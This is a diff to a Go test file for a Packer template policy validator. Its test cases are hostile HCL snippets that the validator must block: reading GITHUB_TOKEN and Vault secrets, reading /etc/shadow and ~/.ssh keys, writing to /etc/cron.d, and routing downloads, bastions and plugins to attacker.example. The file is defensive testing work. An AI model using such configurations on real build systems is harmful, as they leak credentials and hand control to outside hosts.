@@ -12,6 +12,9 @@ import (
 
 	"github.com/packer-hybrid/packer-hybrid/hybridcore"
 	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate"
+	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate/finding"
+	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate/schemas"
+	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate/untrusted"
 )
 
 // build is a template with one more block in its build.
@@ -29,72 +32,72 @@ build {
 func TestPolicy(t *testing.T) {
 	t.Parallel()
 	tests := map[string]struct{ text, rule string }{
-		"environment": {head + "variable \"t\" {\n  default = env(\"GITHUB_TOKEN\")\n}\n", validate.RulePolicyCall},
-		"Vault":       {head + "locals {\n  a = vault(\"secret/data/x\", \"key\")\n}\n", validate.RulePolicyCall},
-		"Consul":      {head + "locals {\n  a = [for k in [\"a\"] : consul_key(k)]\n}\n", validate.RulePolicyCall},
-		"AWS":         {head + "locals {\n  a = aws_secretsmanager(\"x\", \"y\")\n}\n", validate.RulePolicyCall},
-		"file":        {head + "locals {\n  a = file(\"/etc/passwd\")\n}\n", validate.RulePolicyPath},
+		"environment": {head + "variable \"t\" {\n  default = env(\"GITHUB_TOKEN\")\n}\n", finding.RulePolicyCall},
+		"Vault":       {head + "locals {\n  a = vault(\"secret/data/x\", \"key\")\n}\n", finding.RulePolicyCall},
+		"Consul":      {head + "locals {\n  a = [for k in [\"a\"] : consul_key(k)]\n}\n", finding.RulePolicyCall},
+		"AWS":         {head + "locals {\n  a = aws_secretsmanager(\"x\", \"y\")\n}\n", finding.RulePolicyCall},
+		"file":        {head + "locals {\n  a = file(\"/etc/passwd\")\n}\n", finding.RulePolicyPath},
 		"file below": {
 			head + "locals {\n  a = file(\"${path.root}/a/../../../etc/passwd\")\n}\n",
-			validate.RulePolicyPath,
+			finding.RulePolicyPath,
 		},
-		"file in a loop":     {head + "locals {\n  a = [for f in [\"/etc/passwd\"] : file(f)]\n}\n", validate.RulePolicyPath},
-		"file by a variable": {build(`  provisioner "shell" { inline = [file(var.given)] }`), validate.RulePolicyPath},
+		"file in a loop":     {head + "locals {\n  a = [for f in [\"/etc/passwd\"] : file(f)]\n}\n", finding.RulePolicyPath},
+		"file by a variable": {build(`  provisioner "shell" { inline = [file(var.given)] }`), finding.RulePolicyPath},
 		"templatefile": {
 			head + "locals {\n  a = templatefile(\"../../../../etc/hostname\", {})\n}\n",
-			validate.RulePolicyPath,
+			finding.RulePolicyPath,
 		},
-		"fileset": {head + "locals {\n  a = fileset(\"/\", \"**\")\n}\n", validate.RulePolicyPath},
-		"home":    {head + "locals {\n  a = pathexpand(\"~/.ssh\")\n}\n", validate.RulePolicyCall},
+		"fileset": {head + "locals {\n  a = fileset(\"/\", \"**\")\n}\n", finding.RulePolicyPath},
+		"home":    {head + "locals {\n  a = pathexpand(\"~/.ssh\")\n}\n", finding.RulePolicyCall},
 		"data source": {
 			head + "data \"http\" \"x\" {\n  url = \"https://attacker.example\"\n}\n",
-			validate.RulePolicyData,
+			finding.RulePolicyData,
 		},
 		"plugin": {head + "packer {\n  required_plugins {\n    evil = {\n      source  = " +
-			"\"github.com/attacker/evil\"\n      version = \">= 1.0.0\"\n    }\n  }\n}\n", validate.RulePolicyPlugin},
-		"shell-local":       {build(`  provisioner "shell-local" { inline = ["id"] }`), validate.RulePolicyRun},
-		"shell-local after": {build(`  post-processor "shell-local" { inline = ["id"] }`), validate.RulePolicyRun},
+			"\"github.com/attacker/evil\"\n      version = \">= 1.0.0\"\n    }\n  }\n}\n", finding.RulePolicyPlugin},
+		"shell-local":       {build(`  provisioner "shell-local" { inline = ["id"] }`), finding.RulePolicyRun},
+		"shell-local after": {build(`  post-processor "shell-local" { inline = ["id"] }`), finding.RulePolicyRun},
 		"dynamic": {build(
 			"  dynamic \"provisioner\" {\n    for_each = [1]\n    labels   = [\"shell-local\"]\n    content { inline = " +
-				"[\"id\"] }\n  }"), validate.RulePolicyRun},
-		"artifice": {build(`  post-processor "artifice" { files = ["/etc/shadow"] }`), validate.RulePolicyPart},
+				"[\"id\"] }\n  }"), finding.RulePolicyRun},
+		"artifice": {build(`  post-processor "artifice" { files = ["/etc/shadow"] }`), finding.RulePolicyPart},
 		"upload": {
 			build(
 				"  provisioner \"file\" {\n    source      = \"/etc/shadow\"\n    destination = \"/tmp/x\"\n  }"),
-			validate.RulePolicyPath,
+			finding.RulePolicyPath,
 		},
 		"download": {build(
 			"  provisioner \"file\" {\n    direction   = \"download\"\n    source      = \"/tmp/x\"\n    destination = " +
-				"\"/etc/cron.d/x\"\n  }"), validate.RulePolicyPath},
+				"\"/etc/cron.d/x\"\n  }"), finding.RulePolicyPath},
 		"ansible command": {
 			build(
 				"  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    command       = \"./evil\"\n  }"),
-			validate.RulePolicyRun,
+			finding.RulePolicyRun,
 		},
-		"HTTP folder":      {iso(`http_directory = "/"`), validate.RulePolicyPath},
-		"CD files":         {iso(`cd_files = ["/etc/*"]`), validate.RulePolicyPath},
-		"key file":         {iso(`ssh_private_key_file = "~/.ssh/id_rsa"`), validate.RulePolicyPath},
-		"agent":            {iso(`ssh_agent_auth = true`), validate.RulePolicyRun},
-		"medium":           {iso(`iso_url = "file:///etc/shadow"`), validate.RulePolicyURL},
-		"medium elsewhere": {iso(`iso_url = "https://attacker.example/x.iso"`), validate.RulePolicyURL},
-		"medium with name": {iso(`iso_url = "https://mirror.example@attacker.example/x.iso"`), validate.RulePolicyURL},
-		"bastion":          {iso(`ssh_bastion_host = "attacker.example"`), validate.RulePolicyReach},
-		"bastion's agent":  {iso(`ssh_bastion_agent_auth = true`), validate.RulePolicyReach},
-		"proxy":            {iso(`ssh_proxy_host = "attacker.example"`), validate.RulePolicyReach},
-		"tunnel":           {iso(`ssh_remote_tunnels = ["8080:localhost:22"]`), validate.RulePolicyReach},
-		"tunnel from here": {iso(`ssh_local_tunnels = ["8080:localhost:22"]`), validate.RulePolicyReach},
-		"another host":     {iso(`ssh_host = "attacker.example"`), validate.RulePolicyReach},
-		"another Windows":  {iso(`winrm_host = "attacker.example"`), validate.RulePolicyReach},
+		"HTTP folder":      {iso(`http_directory = "/"`), finding.RulePolicyPath},
+		"CD files":         {iso(`cd_files = ["/etc/*"]`), finding.RulePolicyPath},
+		"key file":         {iso(`ssh_private_key_file = "~/.ssh/id_rsa"`), finding.RulePolicyPath},
+		"agent":            {iso(`ssh_agent_auth = true`), finding.RulePolicyRun},
+		"medium":           {iso(`iso_url = "file:///etc/shadow"`), finding.RulePolicyURL},
+		"medium elsewhere": {iso(`iso_url = "https://attacker.example/x.iso"`), finding.RulePolicyURL},
+		"medium with name": {iso(`iso_url = "https://mirror.example@attacker.example/x.iso"`), finding.RulePolicyURL},
+		"bastion":          {iso(`ssh_bastion_host = "attacker.example"`), finding.RulePolicyReach},
+		"bastion's agent":  {iso(`ssh_bastion_agent_auth = true`), finding.RulePolicyReach},
+		"proxy":            {iso(`ssh_proxy_host = "attacker.example"`), finding.RulePolicyReach},
+		"tunnel":           {iso(`ssh_remote_tunnels = ["8080:localhost:22"]`), finding.RulePolicyReach},
+		"tunnel from here": {iso(`ssh_local_tunnels = ["8080:localhost:22"]`), finding.RulePolicyReach},
+		"another host":     {iso(`ssh_host = "attacker.example"`), finding.RulePolicyReach},
+		"another Windows":  {iso(`winrm_host = "attacker.example"`), finding.RulePolicyReach},
 		"proxy by a file": {iso("ssh_proxy_host = var.proxy") +
-			"variable \"proxy\" {\n  type    = string\n  default = \"attacker.example\"\n}\n", validate.RulePolicyReach},
-		"registry":           {build("  hcp_packer_registry {\n    bucket_name = \"x\"\n  }"), validate.RulePolicyPart},
-		"registry above":     {head + "hcp_packer_registry {\n  bucket_name = \"x\"\n}\n", validate.RulePolicyPart},
-		"communicator above": {head + "communicator \"ssh\" \"x\" {}\n", validate.RulePolicyPart},
+			"variable \"proxy\" {\n  type    = string\n  default = \"attacker.example\"\n}\n", finding.RulePolicyReach},
+		"registry":           {build("  hcp_packer_registry {\n    bucket_name = \"x\"\n  }"), finding.RulePolicyPart},
+		"registry above":     {head + "hcp_packer_registry {\n  bucket_name = \"x\"\n}\n", finding.RulePolicyPart},
+		"communicator above": {head + "communicator \"ssh\" \"x\" {}\n", finding.RulePolicyPart},
 		"bastion in a build": {strings.Replace(iso(""), "sources = [\"source.vsphere-iso.x\"]",
-			"source \"source.vsphere-iso.x\" {\n    ssh_bastion_host = \"attacker.example\"\n  }", 1), validate.RulePolicyReach},
+			"source \"source.vsphere-iso.x\" {\n    ssh_bastion_host = \"attacker.example\"\n  }", 1), finding.RulePolicyReach},
 		"override": {build("  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    override = {\n      x = " +
-			"{ command = \"./evil\" }\n    }\n  }"), validate.RulePolicyRun},
-		"checksum": {iso(`iso_checksum = "file:http://attacker.example/x"`), validate.RulePolicyURL},
+			"{ command = \"./evil\" }\n    }\n  }"), finding.RulePolicyRun},
+		"checksum": {iso(`iso_checksum = "file:http://attacker.example/x"`), finding.RulePolicyURL},
 	}
 	for name, test := range tests {
 		t.Run(name, func(t *testing.T) {
@@ -104,12 +107,12 @@ func TestPolicy(t *testing.T) {
 				in.Targets[0].Source = "vsphere-iso.x"
 			}
 			is := func(f hybridcore.Finding) bool {
-				return f.Rule == test.rule && f.Kind == validate.KindPolicy && f.Blocking && f.Line > 0
+				return f.Rule == test.rule && f.Kind == finding.KindPolicy && f.Blocking && f.Line > 0
 			}
 			if findings := validate.Check(in); slices.ContainsFunc(findings, is) {
 				t.Errorf("without a policy: %v", findings)
 			}
-			in.Policy = &validate.Policy{Hosts: []string{"mirror.example"}}
+			in.Policy = &untrusted.Policy{Hosts: []string{"mirror.example"}}
 			findings := validate.Check(in)
 			if !slices.ContainsFunc(findings, is) || hybridcore.Blocked(findings) != hybridcore.BlockedByRule {
 				t.Errorf("want %s in %v", test.rule, findings)
@@ -117,9 +120,9 @@ func TestPolicy(t *testing.T) {
 		})
 	}
 	in := input(map[string]string{"a.pkr.hcl": iso(`iso_url = "https://mirror.example/x.iso"`)})
-	in.Policy = &validate.Policy{Hosts: []string{"mirror.example"}}
+	in.Policy = &untrusted.Policy{Hosts: []string{"mirror.example"}}
 	for _, f := range validate.Check(in) {
-		if f.Kind == validate.KindPolicy {
+		if f.Kind == finding.KindPolicy {
 			t.Errorf("an allowed host: %v", f)
 		}
 	}
@@ -151,11 +154,11 @@ func TestPolicyBoundsWork(t *testing.T) { // not beside others: it measures time
 			"source": iso("vm_name = jsonencode(" + text + ")"),
 		} {
 			in := input(map[string]string{"a.pkr.hcl": tree})
-			in.Policy = &validate.Policy{}
+			in.Policy = &untrusted.Policy{}
 			var findings []hybridcore.Finding
 			took, held := cost(t, func() { findings = validate.Check(in) })
 			if !slices.ContainsFunc(findings,
-				func(f hybridcore.Finding) bool { return f.Rule == validate.RuleWork && f.Blocking }) {
+				func(f hybridcore.Finding) bool { return f.Rule == finding.RuleWork && f.Blocking }) {
 				t.Errorf("%s in a %s: %.1000v", name, where, findings)
 			}
 			if took > 2*maxTime*slow || held > maxBytes {
@@ -166,10 +169,10 @@ func TestPolicyBoundsWork(t *testing.T) { // not beside others: it measures time
 	powers := func(of string) string { return of + strings.Repeat(" * "+of, 900) }
 	in := input(map[string]string{"a.pkr.hcl": head + "locals {\n  a = " + powers("pow(10, 300)") + "\n  b = " +
 		powers("local.a") + "\n  c = \"${local.b}\"\n}\n"})
-	in.Policy = &validate.Policy{}
+	in.Policy = &untrusted.Policy{}
 	took, held := cost(t, func() {
 		if findings := validate.Check(in); !slices.ContainsFunc(findings,
-			func(f hybridcore.Finding) bool { return f.Rule == validate.RuleWork && f.Blocking }) {
+			func(f hybridcore.Finding) bool { return f.Rule == finding.RuleWork && f.Blocking }) {
 			t.Errorf("powers of powers: %.1000v", findings)
 		}
 	})
@@ -182,7 +185,7 @@ func TestPolicyBoundsWork(t *testing.T) { // not beside others: it measures time
 		`setproduct(range(10), range(10))`, `pow(2, 16)`, `join(", ", [for i in range(50) : format("%d", i)])`,
 	} {
 		in := input(map[string]string{"a.pkr.hcl": head + "locals {\n  a = " + text + "\n}\n"})
-		in.Policy = &validate.Policy{}
+		in.Policy = &untrusted.Policy{}
 		for _, f := range validate.Check(in) {
 			if f.Blocking {
 				t.Errorf("%s: %v", text, f)
@@ -198,8 +201,9 @@ func TestPolicyPatterns(t *testing.T) {
 	for call, refused := range map[string]bool{
 		`fileset(path.root, "../../../../../**")`: true, `fileset(path.root, "x/../../../etc/*")`: true,
 		`fileset(path.root, "{..,x}/*")`: true, `fileset(path.root, "{x/..,y}/*")`: true, `fileset(path.root, "a/..")`: true,
-		`fileset(path.root, ".{.,x}/*")`: true, `fileset(path.root, "{.,x}{.,y}/*")`: true, `fileset(path.root, ".{,.}/*")`: true,
-		`fileset(path.root, "/etc/*")`: true, `fileset(path.root, "~/*")`: true, `fileset(path.root, "x\\..\\*")`: true,
+		`fileset(path.root, ".{.,x}/*")`: true, `fileset(path.root, "{.,x}{.,y}/*")`: true,
+		`fileset(path.root, ".{,.}/*")`: true,
+		`fileset(path.root, "/etc/*")`:  true, `fileset(path.root, "~/*")`: true, `fileset(path.root, "x\\..\\*")`: true,
 		`fileset(path.root, "\\.\\./*")`: true, `fileset(path.root, "${".."}/*")`: true, `fileset(path.root, var.v)`: true,
 		`fileset(path.root, local.up)`: true, `fileset(path.root, "${local.up}*")`: true, `fileset(path.root, "")`: true,
 		`[for p in ["../*"] : fileset(path.root, p)]`: true, `fileset([path.root, "../*"]...)`: true,
@@ -212,10 +216,10 @@ func TestPolicyPatterns(t *testing.T) {
 		in := input(map[string]string{
 			"a.pkr.hcl": head + hidden + "locals {\n  up   = \"../\"\n  name = \"x\"\n  a    = " + call + "\n}\n",
 		})
-		in.Policy = &validate.Policy{}
+		in.Policy = &untrusted.Policy{}
 		findings := validate.Check(in)
 		if slices.ContainsFunc(findings, func(f hybridcore.Finding) bool {
-			return f.Rule == validate.RulePolicyPath && f.Blocking && f.Line > 0 && f.Hint != ""
+			return f.Rule == finding.RulePolicyPath && f.Blocking && f.Line > 0 && f.Hint != ""
 		}) != refused {
 			t.Errorf("%s: refused is not %v: %.600v", call, refused, findings)
 		}
@@ -232,26 +236,26 @@ func iso(setting string) string {
 // Every embedded schema can be read.
 func TestEmbeddedSchemas(t *testing.T) {
 	t.Parallel()
-	for kind, names := range map[validate.Kind][]string{
-		validate.Builder: {
+	for kind, names := range map[schemas.Kind][]string{
+		schemas.Builder: {
 			"azure-arm", "azure-chroot", "azure-dtl", "file", "null", "proxmox-clone", "proxmox-iso",
 			"vsphere-clone", "vsphere-iso", "vsphere-supervisor",
 		},
-		validate.Provisioner: {
+		schemas.Provisioner: {
 			"ansible", "ansible-local", "azure-dtlartifact", "breakpoint", "file", "hcp-sbom",
 			"powershell", "shell", "shell-local", "sleep", "windows-restart", "windows-shell",
 		},
-		validate.PostProcessor: {
+		schemas.PostProcessor: {
 			"artifice", "checksum", "compress", "manifest", "shell-local", "vsphere",
 			"vsphere-template",
 		},
-		validate.DataSource: {
+		schemas.DataSource: {
 			"azure-keyvaultsecret", "hcp-packer-artifact", "hcp-packer-image", "hcp-packer-iteration",
 			"hcp-packer-version", "http", "null",
 		},
 	} {
 		for _, name := range names {
-			if schema, ok := validate.Embedded(kind, name); !ok || len(schema.Attributes) == 0 || schema.Plugin == "" ||
+			if schema, ok := schemas.Embedded(kind, name); !ok || len(schema.Attributes) == 0 || schema.Plugin == "" ||
 				schema.Version == "" {
 				t.Errorf("%s %s: %+v", kind, name, schema)
 			}
@@ -271,7 +275,7 @@ func FuzzCheck(f *testing.F) {
 		"inline = [provisioner.value] }\n  }"), "x: [")
 	f.Fuzz(func(t *testing.T, text, playbook string) {
 		in := input(map[string]string{"a.pkr.hcl": text, "p.yml": playbook, "t.tpl": text})
-		in.Policy = &validate.Policy{}
+		in.Policy = &untrusted.Policy{}
 		first, second := validate.Check(in), validate.Check(in)
 		if len(first) != len(second) {
 			t.Errorf("%d and %d findings", len(first), len(second))
